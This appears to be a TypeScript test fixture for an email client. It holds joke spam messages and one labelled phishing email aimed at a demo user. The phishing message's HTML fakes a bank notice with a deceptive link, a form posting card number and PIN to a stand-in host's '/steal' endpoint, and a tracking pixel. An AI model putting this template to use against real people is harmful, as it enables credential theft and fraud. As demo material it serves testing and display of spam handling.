import { zip } from '@/tests/demo/files/zip';
import { alice, machine, person } from '@/tests/demo/people';
import { type Conversation, type Story, singles } from '@/tests/demo/story';

type Junk = Omit<Story, 'to' | 'box' | 'kind' | 'marks'> & { readonly subject: string };
const junk: readonly Junk[] = [
  {
    from: machine('Mega Deals 4U', 'winner@mega-deals-4u.example'),
    when: '1d 03:12',
    subject: 'RE: You WON a brand new grand piano!!!',
    text: 'Congratulations dear alice@example.test, you are the 1.000.000th visitor. Pay only the transport (2,400) and the piano is yours.',
    html: '<div style="background:#ff0;text-align:center;font-size:28px"><b>YOU WON!!!</b><br><a href="https://mega-deals-4u.example/claim"><font color="red">CLAIM YOUR PIANO</font></a></div>',
  },
  {
    from: machine('Dr. Emmanuel B.', 'barrister.emmanuel@lawchambers.example'),
    when: '2d 04:40',
    subject: 'Your late uncle the piano manufacturer',
    text: 'Dear beloved, I am barrister to a late manufacturer of pianos who bears your name and left 14.5 million and no heir. Kindly send your full name, your mother and a picture of your passport.',
  },
  {
    from: machine('SEO Team', 'kelly@rank-you-first.example'),
    when: '3d 06:22',
    subject: 'Marlow Pianos is on page 7',
    text: 'Hi, I was on your website and noticed that it is not on page 1. We can fix this for 99 a month. Kelly',
  },
  {
    from: machine('SEO Team', 'kelly@rank-you-first.example'),
    when: '5d 06:22',
    subject: 'Re: Marlow Pianos is on page 7',
    text: 'Hi, did you see my last message? Kelly',
  },
  {
    from: machine('Crypto Pulse', 'alpha@crypto-pulse.example'),
    when: '4d 01:15',
    subject: 'IvoryCoin is going to the m00n',
    text: 'The first coin backed by real ivory keys. Only 400 places left in the private group.',
  },
  {
    from: machine('Pharmacy', 'rx@pi11s.example'),
    when: '6d 02:02',
    subject: 'Ch3ap m3ds no prescripti0n',
    text: 'Everything you never asked for, in a plain envelope.',
  },
  {
    from: machine('Your Hosting', 'billing@hosting-renewal-service.example'),
    when: '8d 12:00',
    subject: 'FINAL NOTICE: marlow-pianos expires',
    text: 'Your domain expires. This is not a bill, but pay it: 289.00.',
  },
  {
    from: machine('Ladies Online', 'natasha@true-hearts.example'),
    when: '9d 23:30',
    subject: 'hi its me',
    text: 'I saw your profile and you look very kind. Do you like pianos too? Write me, I wait.',
  },
  {
    from: machine('Инвест-Клуб', 'info@invest-club.example', { words: { charset: 'windows-1251', form: 'B' } }),
    when: '11d 05:00',
    subject: 'Доход 300% в месяц',
    text: 'Гарантированный доход без риска. Позвоните сегодня!',
    charset: 'windows-1251',
  },
  {
    from: machine('Fax Service', 'fax@efax-delivery.example'),
    when: '12d 09:09',
    subject: 'You have received a 2 page fax',
    text: 'Open the attachment to see your fax.',
    files: [
      {
        type: 'application/zip',
        name: 'fax_20418.pdf.zip',
        content: zip({ 'fax_20418.pdf.exe.txt': 'There is nothing here.\n' }),
      },
    ],
  },
  {
    from: machine('Loan Approved', 'money@fast-loan-now.example'),
    when: '15d 07:07',
    subject: 'Pre-approved: 50.000 for ALICE',
    text: 'No questions. Also no answers.',
  },
  {
    from: machine('Diploma Office', 'prof@university-of-anywhere.example'),
    when: '19d 08:18',
    subject: 'Be a doctor by Friday',
    text: 'Based on your life experience you qualify for a PhD in any subject. Pick two.',
  },
  {
    from: person('Alice Marlow', 'alice.marlow@free-mailer.example'),
    when: '20d 10:10',
    subject: 'I have recorded you',
    text: 'I am a hacker and I have your screen. I saw that you look at pianos for hours. Send 0.2 coins or your family gets to know.',
  },
  {
    from: machine('Survey', 'reward@survey-panel.example'),
    when: '26d 13:13',
    subject: '1 minute for a vacuum cleaner',
    text: 'Answer 46 questions and win a vacuum cleaner. Perhaps.',
  },
];

/** It looks like the bank: the name holds the bank's address, and the link says one place and leads to another. */
const phishing: Story & { subject: string } = {
  from: machine('service@harbour-county-bank.example', 'alert@secure-login-hcb.example'),
  replyTo: machine('', 'collect@quick-answer.example'),
  to: [alice],
  when: '6h',
  subject: 'Urgent: your account will be limited in 24 hours',
  kind: 'phishing',
  marks: ['unread'],
  text: 'Dear customer,\n\nwe have noticed unusual activity. Confirm your identity within 24 hours or your account will be limited:\n\nhttps://harbour-county-bank.example/login\n\nHarbour & County Bank, Security',
  html: `<html><body style="font-family:Arial,sans-serif;color:#1b2733"><table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="background:#123a63;padding:20px 30px"><b style="color:#ffffff;font-size:18px">Harbour &amp; County Bank</b></td></tr><tr><td style="padding:24px 30px"><p>Dear customer,</p><p>we have noticed <b>unusual activity</b> in your account ending 4410. Please confirm your identity within <b style="color:#b3261e">24 hours</b>, or your account will be limited.</p><p><a href="https://hcb-verify.secure-login-hcb.example/x?id=alice%40example.test">https://harbour-county-bank.example/login</a></p><form action="https://secure-login-hcb.example/steal" method="post"><input name="card" placeholder="Card number"> <input type="password" name="pin" placeholder="PIN"> <button>Confirm</button></form><p>Security Department</p></td></tr></table><img src="https://secure-login-hcb.example/seen.gif?alice" width="1" height="1"></body></html>`,
};

export const spam: readonly Conversation[] = [
  ...singles(
    'junk',
    junk.map((story) => ({ ...story, to: [alice], box: 'Junk', kind: 'spam' as const, marks: ['junk'] as const })),
    { kind: 'spam' },
  ),
  ...singles('phishing', [phishing], { kind: 'phishing' }),
];
